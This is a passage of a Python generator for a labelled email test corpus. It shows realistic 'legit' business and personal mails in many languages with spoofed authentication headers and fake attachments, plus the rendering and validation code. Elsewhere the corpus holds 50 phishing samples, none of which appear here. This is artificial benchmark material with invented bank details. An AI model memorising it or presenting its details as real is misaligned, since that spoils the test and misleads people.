    inner=[("exchange", dict(src="TYZPR03MB7120.apcprd03.prod.outlook.com", dst="SG2PR03MB6632.apcprd03.prod.outlook.com"))],
    auth=dict(spf="pass", dkim="pass", dmarc="pass", p="QUARANTINE", d="ceylonleaf.lk", s="selector1", mailfrom="ruwan@ceylonleaf.lk"),
    dkim=("ceylonleaf.lk", "selector1"), style="outlook", mid_style="outlook", mid_domain="TYZPR03MB7120.apcprd03.prod.outlook.com",
    extra=[f"In-Reply-To: <AM9PR02MB{tok('lk1r', 24, '0123456789ABCDEF')}@AM9PR02MB7734.eurprd02.prod.outlook.com>",
           f"References: <AM9PR02MB{tok('lk1r', 24, '0123456789ABCDEF')}@AM9PR02MB7734.eurprd02.prod.outlook.com>",
           "Accept-Language: en-GB", "Content-Language: en-GB", "X-MS-Has-Attach: yes"],
    body=mixed("lk1", outlook_body("lk1", """Dear Katerina,

Thank you for the confirmation. Please find attached commercial invoice CLE/EXP/2025/0117 and the draft bill of lading for order AF-2025-07. The containers were loaded yesterday on MSC Maria (ETD Colombo 14 March, ETA Piraeus approx. 2 April).

As agreed, the balance of USD 61,380.00 is payable against copy documents to our usual account, same as for the previous orders:

Commercial Bank of Ceylon PLC, Foreign Branch, Colombo 01
Account name: Ceylon Leaf Exports (Pvt) Ltd
USD account: 1000 4471 9082
SWIFT: CCEYLKLX

The phytosanitary and origin certificates will follow with the originals by DHL on Friday. Please let me know if your customs broker needs anything else.

Kind regards,
Ruwan

Ruwan Wickramasinghe
Export Manager | Ceylon Leaf Exports (Pvt) Ltd
No. 27, Layards Road, Colombo 05, Sri Lanka
T: +94 11 258 4417 | M: +94 77 318 8220
""", lang="en-GB"), att("application/pdf", "CLE-EXP-2025-0117_Commercial_Invoice.pdf", pdf_doc(
        ["CEYLON LEAF EXPORTS (PVT) LTD - COMMERCIAL INVOICE", "Invoice: CLE/EXP/2025/0117    Date: 11/03/2025",
         "Buyer: Aegean Foods S.A., Athens, Greece    Order: AF-2025-07", "",
         "4 x 20ft containers, Ceylon Black Tea BOP, 1,320 chests x 50 kg", "Total FOB Colombo: USD 87,685.71",
         "Advance received (30%): USD 26,305.71", "Balance due: USD 61,380.00", "",
         "Bank: Commercial Bank of Ceylon PLC, Foreign Branch, SWIFT CCEYLKLX", "Account: 1000 4471 9082"], "Commercial Invoice")),
        style="outlook"))

# C2 Kazakh freight partner, Russian, CMR attached
add(slug="kz-cargo-cmr-docs-ru", kind="legit", cat="clean",
    desc="Real business mail in Russian between two Almaty freight companies (Yandex 360 to Yandex 360, passes auth): truck departure, customs post and the scanned CMR attached.",
    dt=when(2025, 10, 7, 16, 48, 27, 300), frm=("Алексей Ким", "a.kim@silkway-cargo.kz"),
    to=("Данияр Садыков", "d.sadykov@steppe-logistics.kz"), mx="yandex",
    subject="Рейс 0710/АЛА-ТАШ: машина вышла, CMR во вложении",
    relay=("forward501a.mail.yandex.net", "178.154.239.81"),
    inner=[("mta", dict(src="mail-nwsmtp-smtp-production-main-33.sas.yp-c.yandex.net", ip="178.154.239.15", by="forward501a.mail.yandex.net", soft="Yandex"))],
    auth=dict(spf="pass", dkim="pass", dmarc="pass", p="NONE", d="silkway-cargo.kz", s="mail", mailfrom="a.kim@silkway-cargo.kz"),
    dkim=("silkway-cargo.kz", "mail"), style="tb", mid_style="kit", mid_domain="silkway-cargo.kz",
    extra=["User-Agent: Mozilla Thunderbird", "Content-Language: ru"],
    body=Multi("mixed", bnd("tb", "kz2"), [text("""Данияр, добрый вечер.

Машина 845 ABK 02 вышла со склада в 15:30, водитель Нурлан, тел. +7 701 448 21 07. Таможенное оформление на посту «Жибек жолы» планируем завтра утром, ориентировочно к 13:00 будут в Ташкенте.

Сканы CMR и инвойса во вложении, оригиналы водитель передаст получателю. Счёт за рейс выставим после выгрузки, как обычно.

--
С уважением,
Алексей Ким
ТОО «Silkway Cargo», отдел перевозок
+7 727 355 40 18
""", encoding="base64"), att("application/pdf", "CMR_0710_ALA-TAS.pdf", pdf_doc(
        ["CMR - INTERNATIONAL CONSIGNMENT NOTE No. KZ 0710-2025", "Sender: Steppe Logistics LLP, Almaty, Kazakhstan",
         "Consignee: Orient Trade LLC, Tashkent, Uzbekistan", "Place of loading: Almaty    Place of delivery: Tashkent",
         "Goods: household appliances, 22 pallets, 9,840 kg", "Vehicle: 845 ABK 02 / trailer 12 ADK 02",
         "Carrier: Silkway Cargo LLP", "Date: 07.10.2025"], "CMR"))]))

# C3 Serbian accountant reminder, Cyrillic
add(slug="rs-racunovodja-pdv-podsetnik", kind="legit", cat="clean",
    desc="Real business mail in Serbian Cyrillic: the company's outside accountant reminds the client of the monthly VAT (PDV) return deadline and asks for incoming invoices; Thunderbird, passes auth, no links.",
    dt=when(2025, 11, 10, 9, 12, 44, 60), frm=("Снежана Илић", "snezana.ilic@racunovodstvo-ilic.rs"),
    to=("Dunavsoft office", "office@dunavsoft.rs"), mx="postfix:mail.dunavsoft.rs:1",
    subject="Подсетник: ПДВ пријава за октобар - рок 15.11.",
    relay=("mail.racunovodstvo-ilic.rs", "79.101.42.17"),
    inner=[("postfix-auth", dict(ip="109.92.14.203", user="snezana.ilic", by="mail.racunovodstvo-ilic.rs", client="192.168.0.11"))],
    auth=dict(spf="pass", dkim="pass", dmarc="pass", p="NONE", d="racunovodstvo-ilic.rs", s="mail", mailfrom="snezana.ilic@racunovodstvo-ilic.rs"),
    dkim=("racunovodstvo-ilic.rs", "mail"), style="tb", mid_style="uuid", mid_domain="racunovodstvo-ilic.rs",
    extra=["User-Agent: Mozilla Thunderbird", "Content-Language: sr"],
    body=text("""Поштовани,

подсећам да је рок за подношење ПДВ пријаве за октобар 15.11.2025. (субота, па ћемо је предати у петак 14.11.).

Молим вас да ми до среде пошаљете:
- улазне фактуре које нису стигле преко СЕФ-а (закуп, интернет, гориво),
- изводе из Банке Интеса за октобар,
- обрачун путних налога за Нови Сад.

Излазне фактуре сам већ преузела са СЕФ-а. Ако имате питања, позовите ме на 064 118 32 07.

Срдачан поздрав,
Снежана Илић
Књиговодствена агенција „Илић“, Панчево
""", encoding="base64"))

# C4 Croatian hotel booking with deposit request
add(slug="hr-hotel-grupa-potvrda", kind="legit", cat="clean",
    desc="Real business mail in Croatian: a Makarska hotel confirms a group booking to a travel agency and asks for the usual 30% deposit to its IBAN; Outlook, passes auth, no links.",
    dt=when(2025, 2, 27, 11, 5, 19, 60), frm=("Recepcija Hotel Adriana", "recepcija@hotel-adriana-makarska.hr"),
    to=("Booking Jadran Turist", "booking@jadranturist.hr"), mx="postfix:mail.jadranturist.hr:1",
    subject="Potvrda rezervacije - grupa Jadran Turist 14.-21.06.2025.",
    relay=("mail.hotel-adriana-makarska.hr", "195.29.94.52"),
    inner=[("postfix-auth", dict(ip="89.164.20.118", user="recepcija", by="mail.hotel-adriana-makarska.hr", client="10.10.1.5"))],
    auth=dict(spf="pass", dkim="pass", dmarc="pass", p="NONE", d="hotel-adriana-makarska.hr", s="dkim", mailfrom="recepcija@hotel-adriana-makarska.hr"),
    dkim=("hotel-adriana-makarska.hr", "dkim"), style="outlook", mid_style="outlook-pop", mid_domain="hotel-adriana-makarska.hr",
    extra=["X-Mailer: Microsoft Outlook 16.0", "Content-Language: hr"],
    body=outlook_body("hr4", """Poštovana gospođo Matić,

zahvaljujemo na upitu i potvrđujemo rezervaciju za Vašu grupu:

Termin: 14.06. - 21.06.2025. (7 noćenja)
Smještaj: 18 dvokrevetnih soba (standard, pogled park), polupansion
Cijena: 68,00 EUR po osobi po noćenju + boravišna pristojba
Slobodno mjesto za vodiča: 1 jednokrevetna soba

Kao i prošle godine, molimo uplatu predujma od 30% (5.140,80 EUR) do 15.03.2025. na naš račun u Zagrebačkoj banci, IBAN HR48 2360 0001 1023 4567 8, uz poziv na broj 2025-0614. Ponudu i predračun šaljemo poštom u ponedjeljak.

Rooming listu molimo najkasnije 10 dana prije dolaska.

Srdačan pozdrav,
Marina Vuković
Voditeljica recepcije
Hotel Adriana ***, Obala kralja Tomislava 12, Makarska
tel. 021 611 204
""", lang="hr"))

# C5 Internal IT maintenance notice, Greek, own mail server
add(slug="gr-internal-it-maintenance", kind="legit", cat="clean",
    desc="Internal IT notice in Greek on the company's own mail server (passes auth): Saturday mail-server maintenance, Outlook may ask to sign in again, IT never asks for passwords; link only to the company intranet.",
    dt=when(2025, 11, 19, 13, 40, 2, 120), frm=("IT Olympia Foods", "it@olympiafoods.gr"),
    to=("Όλο το προσωπικό", "prosopiko@olympiafoods.gr"), mx="postfix:mail.olympiafoods.gr:2",
    subject="Προγραμματισμένη συντήρηση email - Σάββατο 22/11, 22:00-02:00",
    relay=("PC-IT02", "94.66.220.18", "ppp-94-66-220-18.home.otenet.gr"), inner=[],
    auth=dict(spf="pass", dkim="pass", dmarc="pass", p="QUARANTINE", d="olympiafoods.gr", s="mail", mailfrom="it@olympiafoods.gr"),
    dkim=("olympiafoods.gr", "mail"), style="outlook", mid_style="outlook-pop", mid_domain="olympiafoods.gr", proto="ESMTPSA",
    extra=["X-Mailer: Microsoft Outlook 16.0", "Content-Language: el"],
    body=outlook_body("it5", """Καλησπέρα σε όλους,

Το Σάββατο 22/11 από τις 22:00 έως τις 02:00 θα γίνει αναβάθμιση του διακομιστή email. Κατά τη διάρκεια της εργασίας δεν θα είναι δυνατή η αποστολή και λήψη μηνυμάτων, ούτε από το κινητό.

Τη Δευτέρα το Outlook ίσως σας ζητήσει να ξανασυνδεθείτε με τον ίδιο κωδικό που χρησιμοποιείτε σήμερα. Δεν χρειάζεται αλλαγή κωδικού.

Υπενθύμιση: το τμήμα IT δεν θα σας ζητήσει ποτέ τον κωδικό σας με email ή τηλεφωνικά. Αν λάβετε τέτοιο μήνυμα, προωθήστε το στο it@olympiafoods.gr.

Οδηγίες για το κινητό υπάρχουν στο intranet: https://intranet.olympiafoods.gr/it/odigies-email

Ευχαριστούμε,
Σταύρος Μελετίου
Τμήμα Πληροφορικής - εσωτ. 214
""", lang="el-GR"))

# C6 Nepali family mail
add(slug="np-family-dashain-plan", kind="legit", cat="clean",
    desc="Personal Gmail-to-Gmail message in Nepali between cousins planning a Dashain trip to Pokhara, with a hotel name and bus times; no links.",
    dt=when(2025, 9, 14, 20, 18, 37, 345), frm=("Bikash Shrestha", "bikash.shrestha77@gmail.com"),
    to=("Suman Shrestha", "suman.shrestha.ktm@gmail.com"), mx="gmail",
    subject="दशैंमा पोखरा जाने योजना",
    **gmail_sender("bikash.shrestha77@gmail.com", 1),
    extra=[],
    body=gmail_body("np6", """सुमन दाइ, नमस्ते!

दशैंको टीका पछि असोज २१ गते बिहान पोखरा जाने कुरा भएको थियो नि। मैले ग्रीनलाइनको बस टिकटको बारेमा सोधें, बिहान ७:३० को बस छ र एक जनाको रु. २,५०० पर्छ। सबै जना ८ जना हुन्छौं होला।

होटलको लागि लेकसाइडमा "होटल फेवा भ्यू" मा दुई रात बुक गर्ने सोच छ। आमाले सराङकोट पनि जानुपर्छ भन्नुभएको छ।

तपाईंको परिवारबाट को को आउनुहुन्छ, भोलिसम्म भन्नुहोला है। टिकट बुधबारभित्र काट्नुपर्छ।

बिकास
"""))

# C7 Uzbek personal mail with photos
add(slug="uz-toy-rasmlari-jpeg", kind="legit", cat="clean",
    desc="Personal mail in Uzbek (Latin) from Gmail to a Mail.ru friend sharing three JPEG photos from a family wedding in Samarkand; no links.",
    dt=when(2025, 6, 8, 22, 4, 15, 300), frm=("Dilnoza Karimova", "dilnoza.karimova@gmail.com"),
    to=("Malika Yusupova", "malika.yusupova@mail.ru"), mx="mailru",
    subject="To'y rasmlari",
    **gmail_sender("dilnoza.karimova@gmail.com", 3),
    extra=[],
    body=Multi("mixed", bnd("gmail", "uz7m"), [gmail_body("uz7", """Salom Malika!

Kecha Samarqanddagi to'ydan rasmlarni yuboryapman. Sen kelolmaganing juda achinarli bo'ldi, hamma seni so'radi.
Qolgan rasmlarni akam Telegramga tashlaydi, keyin senga ham yuboraman.

Onangga salom ayt.
Dilnoza
"""), *[Leaf("image/jpeg", files.photo_jpeg(40 + i), "base64", f'; name="IMG_20250607_{1930 + i * 7}.jpg"',
             f'attachment; filename="IMG_20250607_{1930 + i * 7}.jpg"', [f"Content-ID: <f_m{hexs('uz7' + str(i), 8)}{i}>", f"X-Attachment-Id: f_m{hexs('uz7' + str(i), 8)}{i}"])
             for i in range(3)]]))

# C8 Dominican customer's payment confirmation with a transfer receipt
add(slug="do-comprobante-transferencia", kind="legit", cat="clean",
    desc="Real business mail in Spanish: a supermarket chain's accounts payable sends a Banreservas transfer receipt PDF for two invoices to its produce supplier; Outlook on Microsoft 365, passes auth, no links.",
    dt=when(2025, 7, 25, 10, 26, 51, -240), frm=("Ramón Peralta", "rperalta@superselcibao.com.do"),
    to=("Finanzas Agro Cibao", "finanzas@agrocibao.com.do"), mx="gmail",
    subject="Pago facturas B0100004518 y B0100004533 - comprobante",
    relay=("NAM04-DM6-obe.outbound.protection.outlook.com", "40.107.201.73", "mail-dm6nam04on2073.outbound.protection.outlook.com"),
    inner=[("exchange", dict(src="CH3PR19MB7410.namprd19.prod.outlook.com", dst="SA1PR19MB5712.namprd19.prod.outlook.com"))],
    auth=dict(spf="pass", dkim="pass", dmarc="pass", p="NONE", d="superselcibao.com.do", s="selector1", mailfrom="rperalta@superselcibao.com.do"),
    dkim=("superselcibao.com.do", "selector1"), style="outlook", mid_style="outlook", mid_domain="CH3PR19MB7410.namprd19.prod.outlook.com",
    extra=["Accept-Language: es-DO", "Content-Language: es-DO", "X-MS-Has-Attach: yes"],
    body=mixed("do8", outlook_body("do8", """Buenos días, Yesenia:

Le envío el comprobante de la transferencia realizada hoy desde nuestra cuenta en Banreservas por RD$ 486,200.00, correspondiente a las facturas:

B0100004518 - RD$ 251,750.00
B0100004533 - RD$ 234,450.00

La retención del ITBIS se reportará en el formato 606 de julio, como de costumbre. Favor confirmar recibido.

Saludos,

Ramón Peralta
Cuentas por Pagar
Supermercados El Cibao, S.R.L.
Tel. (809) 582-4410 ext. 215
""", lang="es-DO"), att("application/pdf", "Comprobante_Banreservas_25072025.pdf", pdf_doc(
        ["BANRESERVAS - Banca en Línea Empresas", "Comprobante de transferencia", "",
         "Fecha: 25/07/2025 09:58    Referencia: 250725-00418872", "Cuenta origen: Supermercados El Cibao, S.R.L. ***-**4471",
         "Beneficiario: Agro Cibao Export, S.R.L.", "Banco destino: Banco Popular Dominicano",
         "Monto: RD$ 486,200.00", "Concepto: Pago facturas B0100004518 / B0100004533", "Estado: Aplicada"],
        "Comprobante de transferencia")), style="outlook"))

# C9 Albanian order confirmation to a Greek supplier
add(slug="al-porosi-konfirmim", kind="legit", cat="clean",
    desc="Real business mail in Albanian with an English summary: a Tirana importer (Google Workspace, passes auth) confirms a feta and yoghurt order to its Greek supplier and asks for the pro-forma; no links.",
    dt=when(2025, 4, 16, 12, 51, 8, 120), frm=("Arben Krasniqi", "arben@adriatik-trade.al"),
    to=("Olympia Foods Export", "export@olympiafoods.gr"), mx="postfix:mail.olympiafoods.gr:3",
    subject="Konfirmim porosie / Order confirmation PO-ADR-2025-041",
    **mailbox(("mail-sor-f52.google.com", "209.85.220.52"), [("gmail", dict(host="mail-sor-f52.google.com"))],
                  "adriatik-trade.al", "google", "arben@adriatik-trade.al", "gmail", "gmail"),
    extra=[],
    body=gmail_body("al9", """Përshëndetje z. Papadakis,

Ju konfirmojmë porosinë PO-ADR-2025-041 sipas ofertës suaj të datës 10 prill:

- Djathë feta PDO, 15 kg - 120 kova
- Kos grek 10%, 1 kg - 800 copë

Dorëzimi: Durrës, deri më 30 prill. Pagesa si zakonisht, 30 ditë nga fatura, me transfertë bankare.
Ju lutem na dërgoni faturën pro-forma dhe certifikatat shëndetësore për doganën.

(English: we confirm order PO-ADR-2025-041 as per your offer of 10 April, delivery Durres by 30 April, payment 30 days. Please send the pro-forma and health certificates.)

Faleminderit,
Arben Krasniqi
Adriatik Trade sh.p.k., Tiranë
+355 69 204 8817
"""))

# C10 Meezan Bank relationship manager sends a draft LC to a corporate client
add(slug="pk-meezan-rm-lc-draft", kind="legit", cat="clean",
    desc="Real bank-to-client business mail: a Meezan Bank corporate relationship manager (meezanbank.com, Microsoft 365, passes auth) sends a draft import LC PDF to the mill's finance manager for review before issuance; no links.",
    dt=when(2025, 8, 6, 11, 40, 26, 300), frm=("Ayesha Siddiqui", "ayesha.siddiqui@meezanbank.com"),
    to=("Usman Tariq", "usman.tariq@indusweave.com.pk"), mx="m365:apac",
    subject="Draft Import LC - Dyes & Chemicals (Huntsman) - for your review",
    relay=("APC01-PSA-obe.outbound.protection.outlook.com", "40.107.255.121", "mail-psaapc01on2121.outbound.protection.outlook.com"),
    inner=[("exchange", dict(src="KL1PR0601MB4417.apcprd06.prod.outlook.com", dst="PSAPR06MB4022.apcprd06.prod.outlook.com"))],
    auth=dict(spf="pass", dkim="pass", dmarc="pass", p="REJECT", d="meezanbank.com", s="selector1", mailfrom="ayesha.siddiqui@meezanbank.com"),
    dkim=("meezanbank.com", "selector1"), style="outlook", mid_style="outlook", mid_domain="KL1PR0601MB4417.apcprd06.prod.outlook.com",
    extra=["Accept-Language: en-US", "Content-Language: en-US", "X-MS-Has-Attach: yes"],
    body=mixed("mz10", outlook_body("mz10", """Assalam-o-Alaikum Usman Sahib,

As discussed on call this morning, please find attached the draft of the sight LC for import of reactive dyes from Huntsman (Singapore), value USD 84,600, under your existing Murabaha/LC limit.

Kindly review the following in particular before we issue:
- Latest shipment date 15-Sep-2025 and expiry 30-Sep-2025
- Partial shipments: not allowed
- Insurance to be arranged by applicant (please share the insurance cover note)

Once you confirm, please send the signed LC application and the proforma invoice through your usual channel and we will issue the LC the same day.

Regards,

Ayesha Siddiqui
Relationship Manager - Corporate Banking
Meezan Bank Limited | Faisalabad Region
Tel: +92 41 8724 417 Ext. 233
"""), att("application/pdf", "Draft_LC_IndusWeave_Huntsman_USD84600.pdf", pdf_doc(
        ["MEEZAN BANK LIMITED - DRAFT (FOR APPLICANT REVIEW ONLY)", "Form of documentary credit: Irrevocable, at sight",
         "Applicant: Indus Weave Mills (Pvt) Ltd, Faisalabad", "Beneficiary: Huntsman (Singapore) Pte Ltd",
         "Amount: USD 84,600.00    Incoterm: CFR Karachi", "Latest shipment: 15-Sep-2025    Expiry: 30-Sep-2025, Pakistan",
         "Partial shipments: not allowed    Transhipment: allowed",
         "Documents: commercial invoice, full set B/L, packing list, certificate of origin"], "Draft LC")), style="outlook"))


# ==========================================================================
# Rendering
# ==========================================================================


def _addr_list(v) -> str:
    items = v if isinstance(v, list) else [v]
    return ",\n ".join(fmt_addr(n, a) for n, a in items)


def render(m: dict) -> bytes:
    seed, dt = m["slug"], m["dt"]
    to = m["to"] if isinstance(m["to"], list) else [m["to"]]
    rcpt = m.get("rcpt", to[0][1])
    inner = m.get("inner", [])
    lines = mx_block(m, rcpt, dt + timedelta(seconds=len(inner) + 2 + m.get("delay", 0)))
    for i, (kind, kw) in enumerate(inner):
        lines.append(hop(kind, dt + timedelta(seconds=len(inner) - i), seed + str(i), **kw))
    if m.get("dkim"):
        lines.append(dkim_header(m["dkim"][0], m["dkim"][1], seed, dt))
    frm = fmt_addr(*m["frm"])
    subj = enc(m["subject"])
    msgid = mid(m["mid_style"], seed, m.get("mid_domain", m["frm"][1].split("@")[1]))
    cc = [f"Cc: {_addr_list(m['cc'])}"] if m.get("cc") else []
    style = m["style"]
    if style == "gmail":
        head = ["MIME-Version: 1.0", f"From: {frm}", f"Date: {rfc(dt)}", f"Message-ID: {msgid}",
                f"Subject: {subj}", f"To: {_addr_list(m['to'])}", *cc, *m.get("extra", [])]
    elif style == "outlook":
        topic = enc(re.sub(r"^(RE|Re|AW|FW|Fwd|ΑΠ|ΣΧΕΤ): ", "", m["subject"]))
        ti = base64.b64encode(b"\x01\xdb" + _stream(seed + "ti", 20)).decode()
        head = [f"From: {frm}", f"To: {_addr_list(m['to'])}", *cc, f"Subject: {subj}", f"Thread-Topic: {topic}",
                f"Thread-Index: {ti}", f"Date: {rfc(dt)}", f"Message-ID: {msgid}",
                *[e for e in m.get("extra", []) if not e.startswith("Thread-Index")], "MIME-Version: 1.0"]
    elif style == "mkt":
        head = [f"From: {frm}", f"To: {_addr_list(m['to'])}", *cc, f"Subject: {subj}", f"Date: {rfc(dt)}",
                f"Message-ID: {msgid}", *m.get("extra", []), "MIME-Version: 1.0"]
    elif style == "tb":
        head = [f"Message-ID: {msgid}", f"Date: {rfc(dt)}", "MIME-Version: 1.0", *m.get("extra", []),
                f"To: {_addr_list(m['to'])}", *cc, f"From: {frm}", f"Subject: {subj}"]
    else:  # kits, mail.ru web, Roundcube
        head = [f"Date: {rfc(dt)}", f"To: {_addr_list(m['to'])}", *cc, f"From: {frm}", f"Subject: {subj}",
                f"Message-ID: {msgid}", *m.get("extra", []), "MIME-Version: 1.0"]
    return message("\n".join(lines + head), m["body"])


def check(path: Path, data: bytes) -> None:
    msg = BytesParser(policy=policy.default).parsebytes(data)
    problems = []
    for part in msg.walk():
        if part.defects:
            problems.append(f"part defects {part.get_content_type()}: {part.defects}")
        for name, value in part.items():
            if getattr(value, "defects", None):
                problems.append(f"header {name}: {value.defects}")
        if part.get_content_maintype() == "text":
            part.get_content()
    for required in ("From", "To", "Subject", "Date", "Message-ID", "Received", "Authentication-Results", "Return-Path"):
        if msg[required] is None:
            problems.append(f"missing {required}")
    assert not problems, f"{path}: {problems}"


def main() -> None:
    kinds = {"phish", "legit", "bulk"}
    seen, manifest, counts = set(), [], {}
    for m in MESSAGES:
        assert m["kind"] in kinds and m["slug"] not in seen, m["slug"]
        seen.add(m["slug"])
        rel = f"samples/mail/{m['cat']}/b{N}-{m['kind']}-{m['slug']}.eml"
        data = render(m)
        check(Path(rel), data)
        out = ROOT / rel
        out.parent.mkdir(parents=True, exist_ok=True)
        out.write_bytes(data)
        manifest.append(f"{rel} | {m['cat']} | {m['desc']}")
        counts[m["cat"]] = counts.get(m["cat"], 0) + 1
    attacks = sum(1 for m in MESSAGES if m["kind"] == "phish")
    legit = len(MESSAGES) - attacks
    assert attacks == 50 and legit == 25, (attacks, legit)
    assert all(m["cat"] in ("phishing", "malware") for m in MESSAGES if m["kind"] == "phish")
    assert all(m["cat"] in ("clean", "bulk") for m in MESSAGES if m["kind"] != "phish")
    (HERE / f"blind{N}_manifest.txt").write_text("\n".join(manifest) + "\n", encoding="utf-8")
    print(f"wrote {len(MESSAGES)} messages: {attacks} attacks, {legit} legitimate")
    for cat in sorted(counts):
        print(f"  {cat}: {counts[cat]}")


if __name__ == "__main__":
    main()
